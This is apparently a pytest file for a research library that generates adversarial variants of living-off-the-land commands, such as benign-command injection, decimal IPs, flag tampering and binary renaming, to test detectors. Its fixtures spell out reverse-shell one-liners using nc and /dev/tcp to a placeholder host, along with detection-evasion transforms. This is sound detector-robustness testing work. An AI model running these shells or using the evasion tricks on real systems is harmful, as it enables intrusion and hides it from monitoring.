from __future__ import annotations

import copy
import re

import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

from lotlsynth.attacks import (
    ESCAPE_ACTIONS,
    AttackConfig,
    attack_records,
    binary_rename,
    command_words,
    decode_decimal_ip,
    decimal_ip,
    encode_decimal_ip,
    escape_perturb,
    flag_tamper,
    futile_code,
    hybrid_attack,
    inject_benign,
    load_adversary_baseline,
    semicolon_boundaries,
)
from lotlsynth.records import CommandRecord
from lotlsynth.synthesis import DEFAULT_BINDINGS, default_variants, load_templates

ADV = load_adversary_baseline()
X = "nc -e sh 1.2.3.4 53"
VARIANTS = default_variants(load_templates())


def test_injection_zero_payload(rng):
    assert inject_benign(X, 0, ADV, rng) == X
    assert inject_benign(X, 0, [], rng) == X


def test_injection_sixteen_chars(rng):
    out = inject_benign(X, 16, ADV, rng)
    assert len(out) == 16 + 1 + len(X)
    assert out[16] == ";" and out.endswith(X)


def test_injection_empty_baseline(rng):
    with pytest.raises(ValueError):
        inject_benign(X, 16, [], rng)


def test_injection_suffix_1000_draws():
    rng = np.random.default_rng(7)
    for i in range(1000):
        x = VARIANTS[i % len(VARIANTS)]
        n = int(rng.integers(16, 129))
        out = inject_benign(x, n, ADV, rng)
        assert out.endswith(x) and len(out) == n + 1 + len(x)


def test_payload_is_prefix_of_joined_picks():
    rng = np.random.default_rng(0)
    out = inject_benign(X, 100, ADV, rng)
    payload = out[:100]
    rng = np.random.default_rng(0)
    picks = []
    while len(";".join(picks)) < 100:
        picks.append(ADV[int(rng.integers(len(ADV)))])
    assert ";".join(picks).startswith(payload)


def test_decimal_ip_example(rng):
    assert escape_perturb("ping 127.0.0.1", 1.0, rng) == "ping 2130706433"
    assert encode_decimal_ip("127.0.0.1") == 2130706433


def test_decimal_ip_inverts():
    rng = np.random.default_rng(11)
    for v in rng.integers(0, 2**32, size=10_000):
        ip = ".".join(str(int(o)) for o in ((v >> 24) & 255, (v >> 16) & 255, (v >> 8) & 255, v & 255))
        assert decode_decimal_ip(encode_decimal_ip(ip)) == ip
        assert encode_decimal_ip(ip) == int(v)


def test_decimal_ip_rewrites_every_quad():
    assert decimal_ip("nc 10.0.0.1 1 || nc 10.0.0.2 2") == "nc 167772161 1 || nc 167772162 2"
    assert decimal_ip("echo 1.2.3.999") == "echo 1.2.3.999"


def test_threshold_zero_unchanged(rng):
    for x in VARIANTS:
        assert escape_perturb(x, 0.0, rng) == x


def test_futile_code_example(rng):
    assert escape_perturb("mkfifo a;cat a", 1.0, rng) == "mkfifo a;id;cat a"
    assert futile_code("ls", rng) == "id;ls"


def test_flag_tamper_table():
    assert flag_tamper("bash -i") == "bash -x -i"
    assert flag_tamper(X) == "nc -v -e sh 1.2.3.4 53"
    assert flag_tamper("python3 -c 'x'") == "python3 -u -c 'x'"
    assert flag_tamper("perl -e 'x'") == "perl -w -e 'x'"
    assert flag_tamper("echo 'bash -i'") == "echo 'bash -i'"


def test_binary_rename_shape(rng):
    out = binary_rename("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", rng)
    m = re.fullmatch(r"cp bash ([a-z]{1,3}); \1 -i >& /dev/tcp/1\.2\.3\.4/4444 0>&1", out)
    assert m, out


def test_command_words_and_boundaries():
    cmd = "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 1.2.3.4 5 >/tmp/f"
    assert [w.text for w in command_words(cmd)] == ["rm", "mkfifo", "cat", "sh", "nc"]
    assert semicolon_boundaries(cmd) == [9, 23]
    assert semicolon_boundaries("echo 'a;b'") == []


def test_hybrid_param_zero(rng):
    assert hybrid_attack(X, 0.0, ADV, rng) == X


@pytest.mark.parametrize("a, n", [(1.0, 128), (0.5, 64), (0.25, 32)])
def test_hybrid_payload_length(a, n):
    rng = np.random.default_rng(2)
    escaped = escape_perturb(X, a, copy.deepcopy(rng))
    out = hybrid_attack(X, a, ADV, rng)
    assert out.endswith(";" + escaped)
    assert len(out) == n + 1 + len(escaped)


def test_hybrid_full_applies_every_applicable_action():
    rng = np.random.default_rng(3)
    out = hybrid_attack("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", 1.0, ADV, rng)
    tail = out[129:]
    assert "16909060" in tail and re.search(r"cp bash ([a-z]+);", tail)
    assert re.search(r" -x -i", tail)


_PRESERVED_ONLY = re.compile(r"\$IFS|base64|\\x[0-9a-f]{2}|\$'")


@settings(max_examples=200)
@given(st.sampled_from(VARIANTS), st.floats(0, 1), st.integers(0, 2**32))
def test_escape_never_adds_non_preserved_manipulations(x, thr, seed):
    out = escape_perturb(x, thr, np.random.default_rng(seed))
    for ch in "'\"\\`":
        assert out.count(ch) == x.count(ch)
    assert len(_PRESERVED_ONLY.findall(out)) == len(_PRESERVED_ONLY.findall(x))


def test_only_auditd_preserved_actions_registered():
    assert [a.name for a in ESCAPE_ACTIONS] == ["decimal_ip", "flag_tamper", "binary_rename", "futile_code"]


def test_attack_config_validation():
    with pytest.raises(ValueError):
        AttackConfig("benign_injection", payload_chars=8)
    with pytest.raises(ValueError):
        AttackConfig("shell_escape", threshold=1.5)
    with pytest.raises(ValueError):
        AttackConfig("quotes")
    h = AttackConfig("hybrid", attack_param=0.5)
    assert h.effective_payload == 64 and h.effective_threshold == 0.5
    assert h.adversary_baseline


def test_attack_records_deterministic_and_labeled():
    recs = [CommandRecord("ls -la", 0, "baseline", "test")] + [
        CommandRecord(v, 1, f"template:t{i:02d}", "test") for i, v in enumerate(VARIANTS[:10])
    ]
    cfg = AttackConfig("hybrid", attack_param=1.0, seed=4)
    a, b = attack_records(recs, cfg), attack_records(recs, cfg)
    assert a == b
    assert a[0] == recs[0]
    assert all(r.origin == "adversarial:hybrid" and r.label == 1 for r in a[1:])
    assert attack_records(recs, AttackConfig("hybrid", attack_param=1.0, seed=5)) != a


def test_attack_records_per_sample_streams():
    recs = [CommandRecord(v, 1, "template:t01", "test") for v in VARIANTS[:6]]
    cfg = AttackConfig("benign_injection", payload_chars=40, seed=1)
    full = attack_records(recs, cfg)
    # record i only depends on (seed, i)
    assert attack_records(recs[:3], cfg) == full[:3]


def test_default_bindings_variants_are_attackable():
    assert "IP_A" in DEFAULT_BINDINGS
    rng = np.random.default_rng(0)
    changed = sum(escape_perturb(v, 1.0, rng) != v for v in VARIANTS)
    assert changed == len(VARIANTS)
